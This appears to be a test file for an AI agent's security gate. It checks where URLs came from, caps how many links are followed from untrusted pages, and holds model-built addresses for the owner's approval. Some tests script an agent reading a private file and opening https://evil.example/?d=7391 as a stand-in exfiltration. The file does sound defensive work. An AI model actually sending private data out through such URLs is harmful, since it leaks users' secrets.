"""Who wrote an address: told from rows alone, whoever looks, and bounded in what a turn can give away."""

import math
from pathlib import Path

import msgspec
import pytest

from coilclaw.airlock.fake import FakeTransport
from coilclaw.config.schema import Webhook
from coilclaw.features.chat.agent import agent_of
from coilclaw.gate.addresses import PAGE_LINKS, PAGES, SEARCH_LINKS, SEARCHES, origin_of, places
from coilclaw.gate.decision_input import FOLLOWED
from coilclaw.gate.turn import Turn
from coilclaw.packets.action import OWNER, ToolCall
from coilclaw.packets.card import Answer
from coilclaw.packets.job import UserMessage
from coilclaw.store.actions import load_action
from coilclaw.store.conversation import NOTHING_SAID, Followed, Said, read_conversation
from coilclaw.store.threads import MessageRow, add_message, ensure_thread
from tests.gate.test_address_corpus import answer
from tests.home import Sample

PAGE = "https://news.example/story"
LONG = "https://a.example/0123456789abcdef"
LINKS = [f"https://evil.example/{number}" for number in range(5)]


def talk(*said, **changes):
    return msgspec.structs.replace(NOTHING_SAID, said=said, **changes)


def owner(text):
    return Said(writer="owner", text=text)


def model(text):
    return Said(writer="model", text=text)


def page(text, url=PAGE):
    return Said(writer="page", text=text, url=url)


async def say(home, text, *replies):
    home.script(*replies, {"text": "done"})
    message = UserMessage(
        message_id=f"msg_{text[:20]}", thread_id="conv_1", channel="cli", source="chat", text=text, label=OWNER,
        received_at="now",
    )  # fmt: skip
    return await agent_of(home.app, home.conveyor()).turn(message)


def opens(*urls):
    return {"tool_calls": [{"tool": "web_open", "args": {"url": url}} for url in urls]}


def web(home, **pages):
    told = {PAGE: "\n".join(LINKS), **dict.fromkeys(LINKS, "ok"), **pages}
    home.app.__dict__["transport"] = FakeTransport(
        {url: answer(url, text) for url, text in told.items()}, listing=home.app.listing
    )


def test_a_process_that_knows_nothing_counts_what_the_turn_followed_before(tmp_path):
    import asyncio

    first = Sample(tmp_path)
    web(first)
    reply = asyncio.run(say(first, f"open {PAGE}", opens(PAGE), opens(LINKS[0]), opens(LINKS[1])))
    assert not first.owner.cards
    first.close()
    second = Sample(tmp_path)
    try:
        turn = Turn(reply.turn_id, "conv_1", "chat", ("untrusted:news.example",))
        decision = second.conveyor().intake.decide(ToolCall.of("web_open", {"url": LINKS[2]}), turn)
        assert (decision.verdict, decision.code) == ("ask", "FOLLOWED_ENOUGH")
        later = Turn("turn_later", "conv_1", "chat", ("untrusted:news.example",))
        assert second.conveyor().intake.decide(ToolCall.of("web_open", {"url": LINKS[2]}), later).verdict == "allow"
    finally:
        second.close()


async def test_what_was_proposed_before_a_crash_counts_although_nobody_knows_how_it_ended(sample):
    home = sample()
    web(home)
    reply = await say(home, f"open {PAGE}", opens(PAGE))
    turn = Turn(reply.turn_id, "conv_1", "chat", ("untrusted:news.example",))
    conveyor = home.conveyor()
    for number in range(2):
        action = conveyor.intake.propose(ToolCall.of("web_open", {"url": LINKS[number]}), turn, f"k{number}")
        home.app.db.write_now(lambda tx, action=action: conveyor.records.store(tx, action))
    assert conveyor.intake.decide(ToolCall.of("web_open", {"url": LINKS[2]}), turn).code == "FOLLOWED_ENOUGH"


async def test_the_address_of_a_configured_webhook_is_never_called_put_together(sample):
    home = sample(webhooks={"door": Webhook(url="https://door.example/in")})
    home.owner.answer = type(home.owner.answer)(approved=False)
    turn = Turn("t", "", "chat", ("untrusted:web",))
    await home.call("webhook_send", turn=turn, target="door", payload={"text": "hello"})
    (card,) = home.owner.cards
    assert "untrusted:web" in " ".join(card.reasons)
    assert not any("address" in reason for reason in card.reasons)


async def test_an_approved_address_does_not_lead_on_to_another_host(sample):
    home = sample()
    (home.workspace / "vault.txt").write_text("7391")
    web(home, **{"https://evil.example/?d=7391": "ok"})
    await say(home, "read it", {"tool_calls": [{"tool": "file_read", "args": {"path": "vault.txt"}}]},
              opens("https://evil.example/?d=7391"))  # fmt: skip
    (card,) = home.owner.cards
    assert "the model composed" in card.reasons[0]
    assert "your files, notes or memory" in card.reasons[0]
    assert [request.same_host for request in home.app.transport.seen] == [True]
    web(home)
    await say(home, f"open {PAGE}", opens(PAGE))
    assert [request.same_host for request in home.app.transport.seen] == [False]


def test_rows_that_were_written_before_this_was_kept_count_as_private(db, clock):
    def write(tx):
        ensure_thread(tx, clock, "c", "cli", "t")
        row = MessageRow(message_id="m", thread_id="c", turn_id="t", role="tool", content="x", label=OWNER)
        add_message(tx, clock, row)

    db.write_now(write)
    assert read_conversation(db.reader, "c", "t", "~").private
    assert not read_conversation(db.reader, "other", "t", "~").private


def test_a_model_that_wrote_more_than_is_read_back_quotes_nothing(db, clock):
    def write(tx):
        ensure_thread(tx, clock, "c", "cli", "t")
        for number in range(20):
            row = MessageRow(
                message_id=f"m{number}", thread_id="c", turn_id="t", role="assistant", content="x" * 60_000, label=OWNER
            )
            add_message(tx, clock, row)
        row = MessageRow(message_id="m", thread_id="c", turn_id="t", role="user", content=PAGE, label=OWNER)
        add_message(tx, clock, row)

    db.write_now(write)
    conversation = read_conversation(db.reader, "c", "t", "~")
    assert not conversation.complete
    assert places(PAGE, conversation) == ()
    assert places(PAGE, talk(owner(PAGE))) == ("owner",)


@pytest.mark.parametrize(
    ("url", "said", "found"),
    [
        ("https://a.example/x", [owner("see a.example/x.")], ("owner",)),
        ("https://a.example/x", [owner("mail me@a.example/x")], ()),
        ("https://a.example/x", [owner("b.a.example/x or a.example/xy or aa.example/x")], ()),
        ("https://a.example/x", [page("https://a.example/x.")], ("page",)),
        ("https://a.example/x", [page("a.example/x")], ()),
        ("https://a.example/x", [owner("a.example/x"), page("(https://a.example/x)")], ("owner", "page")),
        (LONG, [model("0123456789ABCDEF"), page(LONG)], ()),
        (LONG, [model("123456789abcdef"), page(LONG)], ("page",)),
        (LONG, [owner("0123456789abcdef"), model("0123456789abcdef"), page(LONG)], ("page",)),
        (LONG.replace("0", "%30"), [model("0123456789abcdef"), page(LONG.replace("0", "%30"))], ()),
    ],
)  # fmt: skip
def test_where_an_address_stands(url, said, found):
    assert places(url, talk(*said)) == found


def test_an_address_in_results_and_on_a_page_uses_up_the_results_first():
    found = Said(writer="search", text="", links=(LINKS[0],))
    both = talk(found, page(LINKS[0]))
    assert origin_of(LINKS[0], both) == ("search", 0)
    five = tuple(Followed(rule="address.search", url=f"https://x.example/{n}") for n in range(5))
    assert origin_of(LINKS[0], msgspec.structs.replace(both, followed=five)) == ("page", 0)
    assert origin_of(LINKS[0], talk(found, followed=five)) == ("search", 5)


def bits(pages, searches):
    """How much the choice of addresses tells in one turn: every order of every choice, as a logarithm."""
    menus = PAGES * PAGE_LINKS, SEARCHES * SEARCH_LINKS
    ways = sum(
        math.comb(first + second, first) * menus[0] ** first * menus[1] ** second
        for first in range(pages + 1)
        for second in range(searches + 1)
    )
    return math.log2(ways)


def test_the_security_page_tells_how_many_bits_can_leave_a_turn():
    told = (Path(__file__).parents[2] / "SECURITY.md").read_text()
    alone, all_of_it = bits(FOLLOWED["page"], 0), bits(FOLLOWED["page"], FOLLOWED["search"])
    assert f"{math.ceil(alone)} bits" in told
    assert f"{math.ceil(all_of_it)} bits" in told


async def test_an_address_that_the_model_wrote_is_not_the_owners_when_it_is_proposed_again(sample):
    home = sample()
    web(home)
    home.owner.answer = Answer(approved=False)
    (home.workspace / "diary.txt").write_text("private\n")
    reads = {"tool_calls": [{"tool": "file_read", "args": {"path": "diary.txt"}}]}
    reply = await say(home, "read my diary", reads, opens(LINKS[0]))
    refused = next(each.action for each in reply.outcomes if each.action.call.tool == "web_open")
    assert len(home.owner.cards) == 1

    home.owner.answer = Answer(approved=None)
    again = await home.app.approvals(home.conveyor()).repropose(load_action(home.app.db.reader, refused.action_id))
    assert (again.status, again.decision.code) == ("PENDING", "CONSTRUCTED_GET")
